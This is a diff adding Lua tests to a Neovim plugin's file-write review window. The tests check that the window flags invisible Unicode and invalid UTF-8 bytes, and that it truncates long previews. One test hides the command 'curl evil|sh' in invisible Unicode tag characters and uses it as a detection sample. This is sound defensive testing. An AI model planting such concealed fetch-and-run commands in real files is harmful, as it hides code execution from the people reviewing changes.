@@ -268,4 +268,63 @@ describe('review window', function()
     child.type('a')
     eq('accept', child.lua('return choices[2]'))
   end)
+
+  it('flags tag characters, line separators, fillers, variation selectors and invalid bytes', function()
+    local child = setup()
+    local function cp(n)
+      return vim.fn.nr2char(n)
+    end
+    local tag = ''
+    for c in ('curl evil|sh'):gmatch('.') do
+      tag = tag .. cp(0xE0000 + c:byte())
+    end
+    local cases = {
+      { 'x = 1' .. tag, '<U+E0063>', 'tag U+E0063' },
+      { 'y' .. cp(0x2028) .. '= 2', '<U+2028>', 'line separator U+2028' },
+      { 'p' .. cp(0x2029), '<U+2029>', 'line separator U+2029' },
+      { 'soft' .. cp(0xAD) .. 'hyphen', '<U+00AD>', 'invisible U+00AD' },
+      { 'name = "' .. cp(0x3164) .. '"', '<U+3164>', 'invisible U+3164' },
+      { cp(0x115F) .. cp(0x1160) .. cp(0xFFA0), '<U+115F><U+1160><U+FFA0>', 'invisible U+FFA0' },
+      { 'a' .. cp(0x034F) .. 'b' .. cp(0x180E), '<U+034F>', 'invisible U+180E' },
+      { 'e' .. cp(0xFE0F) .. cp(0xE0100) .. cp(0xE01EF), '<U+FE0F><U+E0100><U+E01EF>', 'variation selector U+E01EF' },
+      { 'f' .. cp(0x2061) .. cp(0x2064), '<U+2061><U+2064>', 'zero-width U+2064' },
+      { 'raw \255\254 bytes', '<xFF><xFE>', 'invalid UTF-8 xFF' },
+    }
+    local lines = { '--- /dev/null', '+++ b/x.py', '@@ -0,0 +1,10 @@' }
+    for _, c in ipairs(cases) do
+      table.insert(lines, '+' .. c[1])
+    end
+    child.lua('ask("quill: create x.py?", ...)', { lines })
+    local shown = child.lua('return prompt_lines()')
+    local virt = child.lua([[
+      local out = {}
+      local ns = vim.api.nvim_create_namespace('quill_review')
+      for _, m in ipairs(vim.api.nvim_buf_get_extmarks(prompt().buf, ns, 0, -1, { details = true })) do
+        if m[4].virt_text then table.insert(out, m[4].virt_text[1][1]) end
+      end
+      return table.concat(out, '\n')
+    ]])
+    local all = table.concat(shown, '\n')
+    for _, c in ipairs(cases) do
+      ok(all:find(c[2], 1, true), c[2] .. ' shown in\n' .. all)
+      ok(virt:find(c[3], 1, true), c[3] .. ' flagged in\n' .. virt)
+    end
+    for _, line in ipairs(shown) do
+      eq(nil, require('quill.utf8').first_invalid(line), 'the window text is valid UTF-8')
+    end
+  end)
+
+  it('shows at most max_lines preview lines and counts the rest (they are not scanned)', function()
+    local child = setup()
+    local lines = { '--- /dev/null', '+++ b/x.txt', '@@ -0,0 +1,4997 @@' }
+    for i = 1, 4997 do
+      lines[#lines + 1] = '+line ' .. i
+    end
+    lines[4000] = '+hidden \226\128\174 here'
+    child.lua('ask("quill: create x.txt?", ..., nil, { more_lines = 7 })', { lines })
+    local shown = child.lua('return prompt_lines()')
+    ok(#shown < 2020, #shown .. ' lines')
+    eq('… 3007 more lines not shown — the whole text will be written', shown[#shown])
+    ok(not table.concat(shown, '\n'):find('U+202E', 1, true), 'a line not shown is not scanned')
+  end)
 end)
